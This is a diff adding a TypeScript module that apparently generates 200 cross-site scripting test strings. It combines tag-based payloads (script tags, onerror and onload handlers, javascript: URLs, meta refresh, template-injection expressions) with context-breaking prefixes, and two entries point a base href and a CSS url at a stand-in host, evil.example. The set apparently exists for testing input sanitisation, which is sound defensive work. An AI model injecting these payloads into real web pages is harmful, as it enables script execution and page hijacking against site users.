@@ -1,0 +1,33 @@
+/** Each would call this, in a page that takes text for HTML or for an address. */
+export const CALL = 'alert(1)';
+
+const TAGS = [
+  `<script>${CALL}</script>`,
+  `<img src=x onerror=${CALL}>`,
+  `<svg onload=${CALL}>`,
+  `<svg/onload=${CALL}//`,
+  `<body onload=${CALL}>`,
+  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
+  `<iframe src="javascript:parent.${CALL}">`,
+  `<details open ontoggle=${CALL}>`,
+  `<input autofocus onfocus=${CALL}>`,
+  `<video><source onerror=${CALL}></video>`,
+  `<object data="javascript:${CALL}">`,
+  `<math><mtext><img src=x onerror=${CALL}>`,
+  `<a href="javascript:${CALL}" autofocus onfocus=${CALL}>x</a>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
+  `<base href="https://evil.example/">`,
+  `<style>*{background:url(https://evil.example/)}</style>`,
+  `<template><script>${CALL}</script></template>`,
+  `<noscript><img src=x onerror=${CALL}></noscript>`,
+  `{{constructor.constructor('${CALL}')()}}`,
+  `\${${CALL}}`,
+];
+
+/** What it takes to get out of where the text stands: an attribute, a script's data, a title, a comment, an entity. */
+const ESCAPES = ['', '">', "'>", '</title>', '</script>', '--><!-->', '</textarea>', '\u2028', '&lt;', ']]>'];
+
+/** 200 texts, each at most as long as a name may be. */
+export const PAYLOADS: readonly string[] = ESCAPES.flatMap((escape) => TAGS.map((tag) => escape + tag)).map((text) =>
+  text.slice(0, 80),
+);
